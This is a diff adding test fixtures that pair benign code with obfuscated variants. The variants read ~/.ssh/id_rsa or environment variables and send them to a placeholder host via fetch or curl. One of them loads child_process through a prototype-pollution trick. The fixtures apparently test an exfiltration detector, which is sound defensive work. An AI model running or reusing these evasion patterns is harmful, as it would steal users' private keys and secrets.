@@ -25,6 +25,90 @@ export const CARRIED_JAVASCRIPT: readonly Pair[] = [
   ],
 ];
 
+const SSH = `import { readFileSync } from "node:fs";\nimport { homedir } from "node:os";\n\n`;
+const KEY = `readFileSync(homedir() + "/.ssh/id_rsa", "utf8")`;
+const POST = `await fetch("https://a.example.net/", { method: "POST", body: `;
+
+/** What carries private data, and what reads or sends it, past the names it had. */
+export const CARRIED_BY_JAVASCRIPT: readonly Pair[] = [
+  [
+    "a class that keeps a text, and one that keeps a key",
+    `${SSH}class Note {\n  #text = readFileSync("notes.md", "utf8");\n  get text() { return this.#text; }\n}\n${POST}new Note().text });\n`,
+    `${SSH}class Note {\n  #text = ${KEY};\n  get text() { return this.#text; }\n}\n${POST}new Note().text });\n`,
+    "secret-flow",
+  ],
+  [
+    "an answer that waits until it is given, and a key that does",
+    `${SSH}const { promise, resolve } = Promise.withResolvers();\nresolve(readFileSync("notes.md", "utf8"));\n${POST}await promise });\n`,
+    `${SSH}const { promise, resolve } = Promise.withResolvers();\nresolve(${KEY});\n${POST}await promise });\n`,
+    "secret-flow",
+  ],
+  [
+    "an event that brings a text, and one that brings a key",
+    `${SSH}import { EventEmitter } from "node:events";\nconst bus = new EventEmitter();\nbus.on("a", (x) => fetch("https://a.example.net/", { method: "POST", body: x }));\nbus.emit("a", readFileSync("notes.md", "utf8"));\n`,
+    `${SSH}import { EventEmitter } from "node:events";\nconst bus = new EventEmitter();\nbus.on("a", (x) => fetch("https://a.example.net/", { method: "POST", body: x }));\nbus.emit("a", ${KEY});\n`,
+    "secret-flow",
+  ],
+  [
+    "a table of steps, and one that has the function that reads files among them",
+    `${SSH}const steps = { load: (path) => path.toUpperCase() };\n${POST}Object.values(steps).map((f) => f(homedir() + "/.ssh/id_rsa"))[0] });\n`,
+    `${SSH}const steps = { load: readFileSync };\n${POST}Object.values(steps).map((f) => f(homedir() + "/.ssh/id_rsa"))[0] });\n`,
+    "secret-flow",
+  ],
+  [
+    "a list given a method of ours, and one that brings the name of a module",
+    `Array.prototype.last = "node:path";\nconsole.log([].last);\n`,
+    `Array.prototype.last = "node:child_process";\n(await import([].last)).execSync("true");\n`,
+    "computed-module",
+  ],
+  [
+    "what an awaited object hands out, and one that hands out the function that sends",
+    `${SSH}const say = await { then: (done) => done((...all) => all.length) };\nsay("https://a.example.net/", { method: "POST", body: ${KEY} });\n`,
+    `${SSH}const say = await { then: (done) => done(fetch) };\nsay("https://a.example.net/", { method: "POST", body: ${KEY} });\n`,
+    "secret-flow",
+  ],
+];
+
+/** What carries private data in shell, past the streams and variables that say so. */
+export const CARRIED_BY_SHELL: readonly Pair[] = [
+  [
+    "the first lines of notes, and of a key",
+    "head -c 400 notes.md | head -n 5 | curl --data-binary @- https://a.example.net/\n",
+    "cat ~/.ssh/id_rsa | head -n 5 | curl --data-binary @- https://a.example.net/\n",
+    "command-exfiltrate",
+  ],
+  [
+    "a text put behind a name, and a key",
+    'body+=$(cat notes.md)\ncurl -d "$body" https://a.example.net/\n',
+    'body+=$(cat ~/.ssh/id_rsa)\ncurl -d "$body" https://a.example.net/\n',
+    "command-exfiltrate",
+  ],
+  [
+    "a file written by a descriptor, and a key written so",
+    "exec 7> /tmp/out\ncat notes.md >&7\nexec 7>&-\ncurl -F f=@/tmp/out https://a.example.net/\n",
+    "exec 7> /tmp/out\ncat ~/.ssh/id_rsa >&7\nexec 7>&-\ncurl -F f=@/tmp/out https://a.example.net/\n",
+    "command-exfiltrate",
+  ],
+  [
+    "notes packed as gzip leaves them, and a key",
+    "cp notes.md /tmp/n\ngzip -kf /tmp/n\ncurl -F f=@/tmp/n.gz https://a.example.net/\n",
+    "cp ~/.ssh/id_rsa /tmp/n\ngzip -kf /tmp/n\ncurl -F f=@/tmp/n.gz https://a.example.net/\n",
+    "command-exfiltrate",
+  ],
+  [
+    "a program given notes to print, and one given a key",
+    "python3 -c 'import sys; print(sys.argv[1])' \"$(cat notes.md)\" | curl -d @- https://a.example.net/\n",
+    "python3 -c 'import sys; print(sys.argv[1])' \"$(cat ~/.ssh/id_rsa)\" | curl -d @- https://a.example.net/\n",
+    "command-exfiltrate",
+  ],
+  [
+    "the words of a built-in command that look like those of a tool, and all variables printed so",
+    "command date | curl -d @- https://a.example.net/\n",
+    "command env | curl -d @- https://a.example.net/\n",
+    "command-exfiltrate",
+  ],
+];
+
 /** Programs that a script leaves for others to start. */
 export const CARRIED_SHELL: readonly Pair[] = [
   [
